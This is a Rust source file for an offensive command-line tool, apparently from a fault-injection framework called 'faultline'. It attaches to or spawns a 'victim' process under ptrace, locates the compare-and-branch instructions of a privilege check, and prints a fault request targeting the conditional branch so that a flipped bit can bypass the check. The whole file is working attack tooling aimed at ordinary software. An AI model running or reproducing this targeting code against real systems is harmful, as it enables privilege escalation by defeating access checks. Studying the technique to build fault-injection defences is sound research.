//! Find a privilege-check callsite in a live victim and print the fault
//! request that would attack it. Either attaches to a running pid or spawns
//! the victim command under trace; in both cases the victim is stopped for
//! the duration of the scan.

use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use anyhow::{Context, bail};
use clap::Parser;
use log::info;
use nix::sys::ptrace;
use nix::sys::signal::Signal;
use nix::sys::wait::waitpid;
use nix::unistd::Pid;

use faultline::FaultCommand;
use faultline::locate::{EntryHint, locate_check};

#[derive(Debug, Parser)]
struct CliArgs {
    /// Pid of an already-running victim to attach to.
    #[arg(long, conflicts_with = "cmd")]
    pid: Option<i32>,
    /// Victim program to spawn under trace when no pid is given.
    #[arg(long)]
    cmd: Option<PathBuf>,
    /// Arguments passed to the spawned victim.
    #[arg(long, requires = "cmd")]
    arg: Vec<String>,
    /// On-disk binary to resolve --symbol in.
    #[arg(long, requires = "symbol")]
    binary: Option<PathBuf>,
    /// Symbol narrowing the scan start within the executable region.
    #[arg(long, requires = "binary")]
    symbol: Option<String>,
    /// Bit for the printed fault request. Negative means the engine default.
    #[arg(long, default_value_t = -1, allow_hyphen_values = true)]
    bit: i32,
    /// Frame displacement for the printed fault request.
    #[arg(long, default_value_t = 0, allow_hyphen_values = true)]
    offset: i32,
}

fn main() -> anyhow::Result<()> {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();
    let args = CliArgs::parse();
    info!("CLI args: {:?}", args);

    let (pid, spawned) = match (&args.pid, &args.cmd) {
        (Some(pid), _) => {
            let pid = Pid::from_raw(*pid);
            ptrace::attach(pid).context("attaching to victim")?;
            (pid, false)
        }
        (None, Some(cmd)) => {
            let mut command = Command::new(cmd);
            command.args(&args.arg).stdin(Stdio::null());
            unsafe {
                command.pre_exec(|| Ok(ptrace::traceme()?));
            }
            let child = command.spawn().context("spawning victim")?;
            (Pid::from_raw(child.id() as i32), true)
        }
        (None, None) => bail!("either --pid or --cmd is required"),
    };
    waitpid(pid, None).context("waiting for victim to stop")?;
    info!("victim {} stopped under trace", pid);

    let hint = match (&args.binary, &args.symbol) {
        (Some(binary), Some(symbol)) => Some(EntryHint { binary, symbol }),
        _ => None,
    };
    let result = locate_check(pid, hint);

    if spawned {
        // our own spawn has nothing left to do
        let _ = ptrace::detach(pid, Some(Signal::SIGKILL));
    } else {
        ptrace::detach(pid, None).context("detaching from victim")?;
    }

    let found = result?;
    println!(
        "bl at {:#x}, cmp at {:#x}, b.cond at {:#x}",
        found.branch_addr, found.compare_addr, found.cond_branch_addr
    );

    // the branch consuming the comparison is the byte worth faulting
    let cmd = FaultCommand {
        vaddr: found.cond_branch_addr,
        pid: pid.as_raw() as u32,
        target_bit: args.bit,
        frame_offset: args.offset,
    };
    println!("fault request: {:02x?}", cmd.to_wire());
    Ok(())
}
